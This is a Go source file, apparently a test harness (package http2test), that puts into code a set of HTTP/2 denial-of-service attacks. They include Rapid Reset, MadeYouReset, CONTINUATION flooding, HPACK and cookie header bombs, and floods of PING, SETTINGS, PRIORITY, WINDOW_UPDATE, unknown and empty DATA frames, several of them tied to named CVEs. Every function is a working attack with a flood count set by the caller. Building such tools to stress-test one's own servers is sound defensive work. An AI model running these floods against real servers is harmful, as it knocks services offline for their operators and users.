package http2test

import (
	"strings"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// The abuses go on until n frames, or pairs of them, are out, or writing fails because the other side has had enough.

// RapidReset opens n streams and resets each at once (CVE-2023-44487).
func (c *Conn) RapidReset(n int, head Fields) error {
	for range n {
		s, err := c.Request(true, head)
		if err != nil {
			return err
		}
		if err := s.Reset(http2.ErrCodeCancel); err != nil {
			return err
		}
	}
	return nil
}

// MadeYouReset opens n streams and has each reset by the other side, with a WINDOW_UPDATE of zero (CVE-2025-8671).
func (c *Conn) MadeYouReset(n int, head Fields) error {
	for range n {
		s, err := c.Request(true, head)
		if err != nil {
			return err
		}
		if err := s.GiveWindow(0); err != nil {
			return err
		}
	}
	return nil
}

// ContinuationFlood sends a header block in n frames that never ends (CVE-2024-27316).
func (c *Conn) ContinuationFlood(n int, fragment []byte) error {
	s := c.Open()
	return c.Frames(func(fr *http2.Framer) error {
		err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: s.ID, BlockFragment: fragment})
		for i := 0; i < n && err == nil; i++ {
			err = fr.WriteContinuation(s.ID, false, fragment)
		}
		return err
	})
}

// HeaderBomb sends a request whose field with a large value, sent once, is repeated n times at one byte each.
func (c *Conn) HeaderBomb(n int, head Fields) (*Stream, error) {
	c.wmu.Lock()
	defer c.wmu.Unlock()
	bomb := hpack.HeaderField{Name: "x-bomb", Value: strings.Repeat("b", 3000)}
	block := append([]byte{}, c.enc.block(append(head, bomb))...)
	again := c.enc.block(Fields{bomb})
	for range n {
		block = append(block, again...)
	}
	s := c.Open()
	return s, c.writeBlock(s.ID, Shape{Most: 16384}, true, block)
}

// CookieBomb sends a request with n cookie crumbs.
func (c *Conn) CookieBomb(n int, head Fields) (*Stream, error) {
	for range n {
		head = append(head, hpack.HeaderField{Name: "cookie", Value: "a=b"})
	}
	return c.Request(true, head)
}

// PingFlood sends n PINGs (CVE-2019-9512).
func (c *Conn) PingFlood(n int) error {
	return c.repeat(n, func(fr *http2.Framer) error { return fr.WritePing(false, [8]byte{}) })
}

// SettingsFlood sends n empty SETTINGS (CVE-2019-9515).
func (c *Conn) SettingsFlood(n int) error {
	return c.repeat(n, func(fr *http2.Framer) error { return fr.WriteSettings() })
}

// PriorityFlood sends n PRIORITYs (CVE-2019-9513).
func (c *Conn) PriorityFlood(n int) error {
	return c.repeat(n, func(fr *http2.Framer) error { return fr.WritePriority(1, http2.PriorityParam{StreamDep: 3, Weight: 7}) })
}

// WindowUpdateFlood sends n WINDOW_UPDATEs of one byte for the connection.
func (c *Conn) WindowUpdateFlood(n int) error {
	return c.repeat(n, func(fr *http2.Framer) error { return fr.WriteWindowUpdate(0, 1) })
}

// UnknownFlood sends n frames of a type that nobody knows.
func (c *Conn) UnknownFlood(n int) error {
	return c.repeat(n, func(fr *http2.Framer) error { return fr.WriteRawFrame(0xbe, 0, 0, []byte("nothing")) })
}

// EmptyDataFlood sends n DATA frames without data on the stream (CVE-2019-9518).
func (s *Stream) EmptyDataFlood(n int) error {
	return s.Conn.repeat(n, func(fr *http2.Framer) error { return fr.WriteData(s.ID, false, nil) })
}

func (c *Conn) repeat(n int, write func(fr *http2.Framer) error) error {
	for range n {
		if err := c.Frames(write); err != nil {
			return err
		}
	}
	return nil
}
